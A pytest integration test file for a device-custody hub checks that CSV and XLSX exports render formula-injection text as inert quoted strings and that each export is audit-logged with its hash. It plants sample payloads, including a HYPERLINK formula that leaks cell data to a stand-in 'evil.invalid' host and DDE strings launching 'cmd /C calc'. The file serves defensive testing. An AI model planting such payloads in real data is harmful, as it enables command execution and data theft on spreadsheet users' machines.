"""Attacks through exports (issue 12 part 7): text that a spreadsheet would run as a formula
(``=1+1``, ``=HYPERLINK(...)``, ``=cmd|...``, and the other OWASP leading characters) stored in
devices, custody notes, people's names and alerts comes out of every CSV and XLSX export as
plain text, and every export is in the audit log with the file's SHA-256."""

from __future__ import annotations

import csv
import hashlib
import io
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any

import openpyxl
import psycopg
import pytest
from fastapi.testclient import TestClient

from hub.domain.spreadsheet import neutral
from tests.factories.hub import bearer
from tests.helpers import query
from tests.security._hub import hub_client

__all__ = ["hub_client"]
pytestmark = pytest.mark.integration

PLUS_ONE = "=1+1"
HYPERLINK = '=HYPERLINK("http://evil.invalid/?leak="&A1,"点击查看")'
DDE = "=cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-1+1"
TAB = "\t=1+1"
CR = "\r=1+1"
ATTACKS = (PLUS_ONE, HYPERLINK, DDE, AT, PLUS, MINUS, TAB, CR)
T0 = datetime.now(UTC).replace(minute=0, second=0, microsecond=0) - timedelta(hours=6)
WINDOW = {"from": T0.isoformat(), "to": (T0 + timedelta(hours=5)).isoformat()}

# Every tabular export of the hub: (path, params, who may run it).
EXPORTS = [
    ("/api/v1/devices.{fmt}", {}, "fd-equipment_manager"),
    ("/api/v1/custody.{fmt}", WINDOW, "fd-equipment_manager"),
    ("/api/v1/alerts.{fmt}", {"state": "open"}, "fd-equipment_manager"),
    ("/api/v1/usage/teams/team-a.{fmt}", WINDOW, "a-supervisor"),
    ("/api/v1/usage/teams/team-a.{fmt}", {**WINDOW, "by": "device"}, "a-supervisor"),
]


def plant_formulas(db_url: str) -> None:
    """Formula text wherever the registry keeps free text."""
    with psycopg.connect(db_url) as conn:
        conn.execute(
            "UPDATE devices SET serial = %s, model = %s, firmware = %s WHERE device_id = 'cam-a1'",
            (PLUS_ONE, HYPERLINK, DDE),
        )
        conn.execute(
            "UPDATE devices SET model = %s, firmware = %s WHERE device_id = 'cam-a2'", (AT, PLUS)
        )
        conn.execute("UPDATE staff SET name = %s WHERE staff_id = 'sa1'", (HYPERLINK,))
        conn.cursor().executemany(
            "INSERT INTO custody (device_id, staff_id, checked_out_at, checked_in_at, out_by,"
            " in_by, note) VALUES (%s, 'sa1', %s, %s, 'x', 'x', %s)",
            [
                (dev, T0 + timedelta(minutes=10 * i), T0 + timedelta(minutes=10 * i + 5), note)
                for i, (dev, note) in enumerate(
                    [("cam-a1", MINUS), ("cam-a2", TAB), ("cam-a1", CR), ("cam-a2", DDE)]
                )
            ],
        )
        conn.execute(
            "INSERT INTO alerts (device_id, kind, severity, opened_at, last_seen_at, detail)"
            " VALUES ('cam-a1', 'low_battery', 'warning', %s, %s, %s)",
            (T0, T0, HYPERLINK),
        )
        conn.cursor().executemany(
            "INSERT INTO positions (time, device_id, seq, received_at, device_type, lat, lon,"
            " payload)"
            " VALUES (%s, 'cam-a1', %s, %s, 'body_camera', %s, 114.05, '{}')",
            [(T0 + timedelta(minutes=1, seconds=s), s, T0, 22.54 + s * 1e-5) for s in range(5)],
        )


def cells_of(body: bytes, fmt: str) -> list[Any]:
    if fmt == "csv":
        text = body.decode("utf-8-sig")
        return [c for row in csv.reader(io.StringIO(text)) for c in row]
    book = openpyxl.load_workbook(io.BytesIO(body))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert formulas == [], f"formula cells in the XLSX: {formulas}"
    return [c.value for c in cells]


def assert_inert(values: list[Any]) -> None:
    live = [v for v in values if isinstance(v, str) and v and neutral(v) != v]
    assert live == [], f"cells a spreadsheet would run: {live!r}"


@pytest.fixture()
def client(hub_client: Callable[..., TestClient], db_url: str) -> TestClient:
    c = hub_client()
    plant_formulas(db_url)
    return c


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_text_in_devices_custody_and_alerts_is_exported_as_text(
    client: TestClient, fmt: str
) -> None:
    seen: list[Any] = []
    for path, params, user in EXPORTS[:3]:
        r = client.get(path.format(fmt=fmt), params=params, headers=bearer(client, user))
        assert r.status_code == 200, (path, r.text)
        values = cells_of(r.content, fmt)
        assert_inert(values)
        seen += values
    # Each attack is there, as text a spreadsheet shows with its quote.
    texts = {v for v in seen if isinstance(v, str)}
    for attack in ATTACKS:
        # XML reads a lone CR back as LF (XML 1.0 §2.11, end-of-line handling).
        cell = attack if fmt == "csv" else attack.replace("\r", "\n")
        assert "'" + cell in texts, f"{attack!r} missing from the {fmt} exports"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_text_never_reaches_usage_exports(client: TestClient, fmt: str) -> None:
    for path, params, user in EXPORTS[3:]:
        r = client.get(path.format(fmt=fmt), params=params, headers=bearer(client, user))
        assert r.status_code == 200, (path, r.text)
        assert_inert(cells_of(r.content, fmt))


def test_a_track_csv_of_an_officer_named_as_a_formula_is_inert(client: TestClient) -> None:
    r = client.get(
        "/api/v1/tracks/officers/sa1",
        params={**WINDOW, "format": "csv"},
        headers=bearer(client, "a-supervisor"),
    )
    assert r.status_code == 200, r.text
    values = cells_of(r.content, "csv")
    assert_inert(values)
    assert any(HYPERLINK in v for v in values)  # the name is there, inside the stamp
    r = client.get(
        "/api/v1/tracks/devices/cam-a1",
        params={**WINDOW, "format": "csv"},
        headers=bearer(client, "a-supervisor"),
    )
    assert r.status_code == 200, r.text
    values = cells_of(r.content, "csv")
    assert_inert(values)
    assert "22.5400000" in values  # numbers stay numbers


def test_every_export_is_in_the_audit_log_with_its_hash(client: TestClient, db_url: str) -> None:
    bodies = {}
    for fmt in ("csv", "xlsx"):
        for path, params, user in EXPORTS:
            r = client.get(path.format(fmt=fmt), params=params, headers=bearer(client, user))
            assert r.status_code == 200, r.text
            bodies[r.headers["x-export-id"]] = (user, r.content)
    rows = query(
        db_url,
        "SELECT entity_id, actor, action, after->>'sha256', (after->>'rows')::int"
        " FROM audit_log WHERE entity = 'export' ORDER BY id",
    )
    assert len(rows) == len(bodies) == 2 * len(EXPORTS)
    for export_id, actor, _action, sha, _n in rows:
        user, body = bodies[export_id]
        assert actor == user
        assert sha == hashlib.sha256(body).hexdigest()
    assert sorted({a for _, _, a, _, _ in rows}) == [
        "alerts.export", "custody.export", "inventory.export", "usage.export",
    ]  # fmt: skip


def test_the_neutraliser_quotes_every_formula_lead_and_leaves_numbers() -> None:
    for attack in ATTACKS:
        assert neutral(attack) == "'" + attack
    for plain in ("-22.5431", "1,024", "-7", "华强北", "", "a=1", "'=1"):
        assert neutral(plain) == plain
